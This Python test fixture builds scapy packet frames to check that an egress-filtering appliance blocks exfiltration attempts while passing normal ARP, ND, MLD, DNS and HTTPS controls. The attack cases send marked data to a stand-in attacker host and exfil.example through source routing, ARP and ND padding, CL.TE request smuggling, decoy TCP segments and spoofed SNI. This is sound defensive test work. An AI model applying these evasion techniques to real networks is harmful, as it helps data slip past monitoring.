"""Frames of a hostile workload that knows how Sluice works, and the controls beside them.

Every attack frame carries its case's marker in every byte the attacker wants out (a payload,
an option, padding); a case is stopped when no frame the appliance forwards carries that marker.
Controls are what real hosts send (ARP, ND, MLD, an allowed HTTPS flow, a CONNECT to a proxy the
policy names): their frames must all be forwarded, so that dropping everything scores zero.
Used by tests/golden/test_attacks.py and tests/fuzz/make_seeds.py; more cases in
attacks_pieces.py (TCP before the verdict), attacks_quic.py (QUIC before the verdict),
attacks_icmp.py (ICMP errors both ways) and dns_attacks.py. Addresses as in tests/golden/scenarios.py, policy
tests/golden/policies/attacks.textproto.
"""

from dataclasses import dataclass, field

from scapy.layers.inet import IP, UDP, IPOption_LSRR, IPOption_SSRR, TCP
from scapy.layers.inet6 import (ICMPv6MLDMultAddrRec, ICMPv6MLReport, ICMPv6MLReport2,
                                ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6NDOptDstLLAddr, ICMPv6NDOptSrcLLAddr, IPv6,
                                IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, RouterAlert)
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Padding, Raw

from pcapgen import frames
from pcapgen.tls import client_hello

CLIENT = "198.18.1.10"            # attachment "prod" of attacks.textproto
CLIENT_V6 = "2001:db8:1::10"
RESOLVER = "198.19.255.53"        # the policy's resolver
RESOLVER_V6 = "2001:db8:ff::53"
TLS_SERVER = "198.19.10.1"
HTTP_SERVER = "198.19.20.1"
PROXY, PROXY_PORT = "198.19.30.1", 3128  # allowed_proxies: "198.19.30.1:3128"
ATTACKER = "198.19.66.6"          # the attacker's own server
ATTACKER_V6 = "2001:db8:66::6"
RESOLVED = "198.19.66.7"          # a server pypi.org was seen resolving to (controls only)
LINK_LOCAL = "fe80::10"
ROUTER_LINK_LOCAL = "fe80::1"
SOLICITED_NODE = "ff02::1:ff00:1"  # of fe80::1 / 2001:db8:1::1
MLDV2_ROUTERS = "ff02::16"
CLIENT_MAC = frames.host_mac(CLIENT)
V6_MAC = frames.host_mac(CLIENT_V6)


def marker(name):
    """The bytes a case wants out; unique per case so a leak names its case."""
    return f"<<EXFIL:{name}>>".encode()


@dataclass
class Attack:
    name: str
    packets: list                 # into the inside port, in order
    reason: str                   # the drop reason (docs/REASONS.md) that stops it; "": none drops
    marker: bytes = b""
    note: str = ""
    forwarded: list = field(default_factory=list)  # frames that must leave as given (cut, not dropped)


@dataclass
class Control:
    name: str
    packets: list                 # all must come out of the outside port unchanged
    note: str = ""
    extra: dict = field(default_factory=dict)


def _ether(src_mac=CLIENT_MAC, dst_mac=frames.GATEWAY_MAC, ethertype=None):
    return Ether(src=src_mac, dst=dst_mac) if ethertype is None else Ether(src=src_mac, dst=dst_mac,
                                                                           type=ethertype)


def _source_routed_v4(name, option):
    m = marker(name)
    return Attack(name, [frames.finish(_ether() / IP(src=CLIENT, dst=RESOLVER, ttl=64, id=7, options=[option])
                                       / UDP(sport=45001, dport=53) / m)],
                  "ipv4_source_route", m,
                  "DNS port to the allowed resolver, routed on through the attacker's host")


def _nd_option(m):
    """An ND option of an unknown type (200) carrying `m`, padded to a multiple of 8 bytes."""
    body = m + b"\x00" * ((-(len(m) + 2)) % 8)
    return bytes([200, (len(body) + 2) // 8]) + body


def _tcp_decoy(name, sport, corrupt):
    """A decoy first segment naming an allowed host that the server never takes (bad checksum or
    no hop left), then the real request at the same sequence number, to a name the policy does
    not allow. Judged on the decoy, the flow would be allowed and the real request would pass."""
    m = marker(name)
    flow = frames.TcpFlow(CLIENT, sport, ATTACKER, 80)
    syn, ack = flow.syn(), flow.ack()
    seq = flow.client_next
    decoy = flow.data(frames.http_get("pypi.org"))
    flow.client_next = seq
    real = flow.data(b"GET /" + m + b" HTTP/1.1\r\nHost: exfil.example\r\n\r\n" + m)
    decoy = corrupt(decoy)
    return Attack(name, [syn, ack, decoy, real], "", m,
                  "the decoy is dropped unjudged; the real request is then judged and denied")


def _bad_checksum(pkt):
    pkt = pkt.copy()
    pkt[TCP].chksum = pkt[TCP].chksum ^ 0x5a5a
    return frames.finish(pkt)


def _last_hop(pkt):
    pkt = pkt.copy()
    pkt[IP].ttl = 1
    del pkt[IP].chksum
    return frames.finish(pkt)


def _spoofed_name(name, sport, dport, message):
    """An allowed name sent to the attacker's own server, never resolved: the marker rides in
    the message itself and in the data that would follow it."""
    m = marker(name)
    flow = frames.TcpFlow(CLIENT, sport, ATTACKER, dport)
    return Attack(name, [flow.syn(), flow.ack(), flow.data(message(m)), flow.data(m * 4)],
                  "name_address_mismatch", m, "allowed name, address no DNS answer gave for it")


def spoof_controls():
    """Resolved first: pypi.org's answer names RESOLVED, then a hello for pypi.org goes there.
    (query, answer, flow packets): the answer comes from the resolver on the outside port."""
    query = frames.dns_query(CLIENT, 45030, RESOLVER, "pypi.org", query_id=0x4530)
    answer = frames.dns_answer(query, RESOLVED)
    flow = frames.TcpFlow(CLIENT, 45031, RESOLVED, 443)
    return query, answer, [flow.syn(), flow.ack(), flow.data(client_hello("pypi.org"))]


def _exfil_request(m):
    """A request to a host the policy does not allow, the marker in its path, a header and a body."""
    return (b"POST /" + m + b" HTTP/1.1\r\nHost: exfil.example\r\nX-Data: " + m
            + b"\r\nContent-Length: " + str(len(m)).encode() + b"\r\n\r\n" + m)


def _later_messages():
    """Every message on a connection is judged, not only the first: a later request or
    ClientHello on a connection allowed for pypi.org must not reach another name."""
    cases = []
    m = marker("keepalive_other_host")
    flow = frames.TcpFlow(CLIENT, 45030, HTTP_SERVER, 80)
    cases.append(Attack("keepalive_other_host", [flow.syn(), flow.ack(), flow.data(frames.http_get("pypi.org")),
                                                 flow.data(_exfil_request(m))],
                        "http_host_changed", m, "a second request on a keep-alive connection allowed for pypi.org"))
    m = marker("pipelined_other_host")
    flow = frames.TcpFlow(CLIENT, 45031, HTTP_SERVER, 80)
    cases.append(Attack("pipelined_other_host", [flow.syn(), flow.ack(),
                                                 flow.data(frames.http_get("pypi.org") + _exfil_request(m))],
                        "http_host_changed", m, "the second request in the same segment as the allowed first"))
    m = marker("smuggled_by_length_and_chunks")
    flow = frames.TcpFlow(CLIENT, 45032, HTTP_SERVER, 80)
    hidden = _exfil_request(m)
    cases.append(Attack("smuggled_by_length_and_chunks", [flow.syn(), flow.ack(), flow.data(
        b"POST /upload HTTP/1.1\r\nHost: pypi.org\r\nContent-Length: " + str(5 + len(hidden)).encode()
        + b"\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + hidden)],
        "http_framing_ambiguous", m,
        "CL.TE smuggling: a server reading the chunks sees the hidden request as the next one"))
    m = marker("smuggled_by_unknown_encoding")
    flow = frames.TcpFlow(CLIENT, 45033, HTTP_SERVER, 80)
    cases.append(Attack("smuggled_by_unknown_encoding", [flow.syn(), flow.ack(), flow.data(
        b"POST /upload HTTP/1.1\r\nHost: pypi.org\r\nTransfer-Encoding: xchunked\r\n\r\n"
        b"0\r\n\r\n" + _exfil_request(m))],
        "http_transfer_encoding_unsupported", m, "an encoding one server ignores and another reads"))
    m = marker("second_client_hello")
    flow = frames.TcpFlow(CLIENT, 45034, TLS_SERVER, 443)
    cases.append(Attack("second_client_hello", [flow.syn(), flow.ack(), flow.data(client_hello("pypi.org")),
                                                flow.data(client_hello("exfil.example", alpn=(m.decode(),)))],
                        "tls_second_hello_mismatch", m, "a second ClientHello naming another server"))
    m = marker("not_tls_after_hello")
    flow = frames.TcpFlow(CLIENT, 45035, TLS_SERVER, 443)
    cases.append(Attack("not_tls_after_hello", [flow.syn(), flow.ack(), flow.data(client_hello("pypi.org")),
                                                flow.data(_exfil_request(m))],
                        "tls_not_record", m, "plain HTTP on a connection allowed as TLS"))
    return cases


def _chunked_hiding_a_head():
    """A chunked upload whose data looks like a request head to another host: body, not a request."""
    hidden = frames.http_get("exfil.example")
    return (b"POST /upload HTTP/1.1\r\nHost: pypi.org\r\nTransfer-Encoding: chunked\r\n\r\n"
            + b"%x\r\n" % len(hidden) + hidden + b"\r\n0\r\n\r\n")


def attacks():
    cases = [
        _source_routed_v4("ipv4_lsrr", IPOption_LSRR(routers=[ATTACKER])),
        _source_routed_v4("ipv4_ssrr", IPOption_SSRR(routers=[ATTACKER])),
    ]
    m = marker("ipv6_routing_type0")
    cases.append(Attack("ipv6_routing_type0", [frames.finish(
        _ether(V6_MAC) / IPv6(src=CLIENT_V6, dst=RESOLVER_V6, hlim=64)
        / IPv6ExtHdrRouting(type=0, addresses=[ATTACKER_V6], segleft=1) / UDP(sport=45002, dport=53) / m)],
        "ipv6_routing_header_type0", m))

    m = marker("nd_off_link")
    cases.append(Attack("nd_off_link", [frames.finish(
        _ether(V6_MAC) / IPv6(src=CLIENT_V6, dst=ATTACKER_V6, hlim=255)
        / ICMPv6ND_NS(tgt=ATTACKER_V6) / Raw(_nd_option(m)))],
        "ip_not_allowed", m, "ND to a routable address: judged like any ICMPv6"))
    m = marker("nd_trailing_data")
    cases.append(Attack("nd_trailing_data", [frames.finish(
        _ether(V6_MAC) / IPv6(src=LINK_LOCAL, dst=SOLICITED_NODE, hlim=255)
        / ICMPv6ND_NS(tgt=ROUTER_LINK_LOCAL) / ICMPv6NDOptSrcLLAddr(lladdr=V6_MAC) / Raw(m))],
        "neighbour_discovery_malformed", m))
    m = marker("nd_wrong_hop_limit")
    cases.append(Attack("nd_wrong_hop_limit", [frames.finish(
        _ether(V6_MAC) / IPv6(src=LINK_LOCAL, dst=ROUTER_LINK_LOCAL, hlim=64)
        / ICMPv6ND_NS(tgt=ROUTER_LINK_LOCAL) / Raw(_nd_option(m)))],
        "neighbour_discovery_malformed", m, "hop limit 64: the packet may have come through a router"))
    m = marker("mld_trailing_data")
    cases.append(Attack("mld_trailing_data", [frames.finish(
        _ether(V6_MAC) / IPv6(src=LINK_LOCAL, dst=SOLICITED_NODE, hlim=1)
        / IPv6ExtHdrHopByHop(options=[RouterAlert()]) / ICMPv6MLReport(mladdr=SOLICITED_NODE) / Raw(m))],
        "neighbour_discovery_malformed", m))

    m = marker("arp_padding")
    request = frames.arp_request(CLIENT, "198.18.1.1")
    cases.append(Attack("arp_padding", [bytes(request) + m[:60 - len(bytes(request))]],
                        "arp_malformed", m[:60 - len(bytes(request))], "the marker in the minimum-frame padding"))
    m = marker("arp_trailing_data")
    cases.append(Attack("arp_trailing_data", [bytes(request) + m * 40], "arp_malformed", m))
    m = marker("arp_not_arp")
    cases.append(Attack("arp_not_arp", [bytes(_ether(ethertype=0x0806, dst_mac=frames.BROADCAST_MAC)) + m * 20],
                        "arp_malformed", m, "EtherType 0x0806, anything else behind it"))

    m = marker("connect_no_proxy")
    flow = frames.TcpFlow(CLIENT, 45010, HTTP_SERVER, 80)
    cases.append(Attack("connect_no_proxy", [flow.syn(), flow.ack(), flow.data(
        b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\nX-Data: " + m + b"\r\n\r\n")],
        "http_connect_not_allowed", m, "an allowed target through a server the policy names as no proxy"))

    cases += _later_messages()

    bad = _tcp_decoy("decoy_bad_checksum", 45011, _bad_checksum)
    bad.reason = "tcp_checksum_bad"
    low = _tcp_decoy("decoy_ttl_1", 45012, _last_hop)
    low.reason = "ttl_too_low"
    cases += [bad, low]

    cases.append(_spoofed_name("spoofed_sni_unresolved", 45013, 443,
                               lambda m: client_hello("pypi.org", alpn=("h2", m.decode()))))
    cases.append(_spoofed_name("spoofed_host_unresolved", 45014, 80,
                               lambda m: frames.http_get("pypi.org", extra_headers=["X-Data: " + m.decode()])))
    from pcapgen import dns_attacks  # imports this module's names
    cases += dns_attacks.attacks()
    from pcapgen import attacks_pieces  # imports this module's names
    cases += attacks_pieces.attacks()
    from pcapgen import attacks_trailers  # imports this module's names
    cases += attacks_trailers.attacks()
    from pcapgen import attacks_quic  # imports this module's names
    cases += attacks_quic.attacks()
    from pcapgen import attacks_icmp  # imports this module's names
    cases += attacks_icmp.attacks()
    return cases


def controls():
    request = frames.arp_request(CLIENT, "198.18.1.1")
    # Another target than `request`'s: the padded request must come out as its own body.
    unpadded = frames.arp_request(CLIENT, "198.18.1.2")
    padded = frames.finish(unpadded / Padding(b"\x00" * (60 - len(bytes(unpadded)))))
    reply = frames.finish(Ether(src=frames.GATEWAY_MAC, dst=CLIENT_MAC)
                          / ARP(op="is-at", hwsrc=frames.GATEWAY_MAC, psrc="198.18.1.1", hwdst=CLIENT_MAC,
                                pdst=CLIENT))
    ns = frames.finish(_ether(V6_MAC, "33:33:ff:00:00:01") / IPv6(src=LINK_LOCAL, dst=SOLICITED_NODE, hlim=255)
                       / ICMPv6ND_NS(tgt=ROUTER_LINK_LOCAL) / ICMPv6NDOptSrcLLAddr(lladdr=V6_MAC))
    na = frames.finish(_ether(V6_MAC) / IPv6(src=LINK_LOCAL, dst=ROUTER_LINK_LOCAL, hlim=255)
                       / ICMPv6ND_NA(tgt=LINK_LOCAL, R=0, S=1, O=1))
    # A solicited advertisement answering a solicitation from a global address: to a routable
    # unicast destination, but every byte fixed by its own addresses and MAC.
    na_global = frames.finish(_ether(V6_MAC) / IPv6(src=CLIENT_V6, dst=RESOLVER_V6, hlim=255)
                              / ICMPv6ND_NA(tgt=CLIENT_V6, R=0, S=1, O=1)
                              / ICMPv6NDOptDstLLAddr(lladdr=V6_MAC))
    mld = frames.finish(_ether(V6_MAC, "33:33:00:00:00:16") / IPv6(src=LINK_LOCAL, dst=MLDV2_ROUTERS, hlim=1)
                        / IPv6ExtHdrHopByHop(options=[RouterAlert()])
                        / ICMPv6MLReport2(records=[ICMPv6MLDMultAddrRec(rtype=4, dst=SOLICITED_NODE)]))
    https = frames.TcpFlow(CLIENT, 45020, TLS_SERVER, 443)
    http = frames.TcpFlow(CLIENT, 45021, HTTP_SERVER, 80)
    proxy = frames.TcpFlow(CLIENT, 45022, PROXY, PROXY_PORT)
    dns = frames.dns_query(CLIENT, 45023, RESOLVER, "pypi.org", query_id=0x4523)
    keepalive = frames.TcpFlow(CLIENT, 45024, HTTP_SERVER, 80)
    chunked = frames.TcpFlow(CLIENT, 45025, HTTP_SERVER, 80)
    retry = frames.TcpFlow(CLIENT, 45026, TLS_SERVER, 443)
    from pcapgen import attacks_pieces  # imports this module's names
    return [
        Control("arp_request", [request]),
        Control("arp_request_padded", [padded],
                "zero padding to the 60-byte minimum passes, cut to the 28-byte body (the NIC pads again)",
                extra={"expected": [bytes(unpadded)]}),
        Control("arp_reply", [reply]),
        Control("nd_solicitation_solicited_node", [ns]),
        Control("nd_advertisement_link_local", [na]),
        Control("nd_advertisement_to_global", [na_global], "solicited NA to a global source address"),
        Control("mldv2_report", [mld]),
        Control("https_allowed", [https.syn(), https.ack(), https.data(client_hello("pypi.org"))]),
        Control("http_allowed", [http.syn(), http.ack(), http.data(frames.http_get("pypi.org"))],
                "right checksum, TTL 64: what the decoys pretend to be"),
        Control("connect_to_named_proxy", [proxy.syn(), proxy.ack(), proxy.data(
            b"CONNECT pypi.org:443 HTTP/1.1\r\nHost: pypi.org:443\r\n\r\n")]),
        Control("dns_to_resolver", [dns], "no source route: what the source-routed cases pretend to be"),
        Control("keepalive_same_host", [keepalive.syn(), keepalive.ack(),
                                        keepalive.data(frames.http_get("pypi.org", "/simple/")),
                                        keepalive.data(frames.http_get("PyPI.org", "/simple/pip/")
                                                       + frames.http_get("pypi.org", "/pipelined"))],
                "keep-alive and pipelined requests to the host the connection was allowed for"),
        Control("chunked_body_hiding_a_head", [chunked.syn(), chunked.ack(), chunked.data(_chunked_hiding_a_head()),
                                               chunked.data(frames.http_get("pypi.org"))],
                "a request head inside chunk data is data, not a request"),
        Control("hello_retry_second_hello", [retry.syn(), retry.ack(), retry.data(client_hello("pypi.org")),
                                             retry.data(b"\x14\x03\x03\x00\x01\x01"),
                                             retry.data(client_hello("pypi.org", key_share=False))],
                "after a HelloRetryRequest: ChangeCipherSpec and the hello again, same name"),
    ] + (__import__("pcapgen.dns_attacks", fromlist=["controls"]).controls() + attacks_pieces.controls()
         + __import__("pcapgen.attacks_trailers", fromlist=["controls"]).controls()
         + __import__("pcapgen.attacks_quic", fromlist=["controls"]).controls()
         + __import__("pcapgen.attacks_icmp", fromlist=["controls"]).controls())


def resolved_control():
    """The spoofed-SNI attacks' control: the same name, to an address it was seen resolving to.
    Its packets are the query and the flow (inside); the answer enters on the outside port."""
    query, answer, flow = spoof_controls()
    control = Control("sni_to_resolved_address", [query] + flow,
                      "pypi.org resolved to this address first: bound, allowed")
    control.extra["answer"] = answer
    return control
